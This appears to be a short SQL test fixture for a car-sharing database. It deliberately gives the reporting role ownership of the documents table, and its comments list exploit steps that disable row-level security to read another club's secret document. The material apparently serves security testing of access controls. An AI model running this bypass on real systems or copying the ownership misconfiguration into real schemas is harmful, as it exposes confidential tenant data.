-- Row security is forced, but the report login now owns the table and may end that, or drop the
-- policy, itself.
-- about: documents
-- as: hf_carshare_report
-- exploit: SET carshare.club = 'aaaaaaaa-0000-4000-8000-000000000001';
-- exploit: SELECT name FROM share.documents;
-- exploit: ALTER TABLE share.documents DISABLE ROW LEVEL SECURITY;
-- exploit: SELECT name FROM share.documents;
-- shows: Road-secret paper
ALTER TABLE share.documents OWNER TO hf_carshare_report;
GRANT SELECT, INSERT, UPDATE, DELETE ON share.documents TO hf_carshare_app;
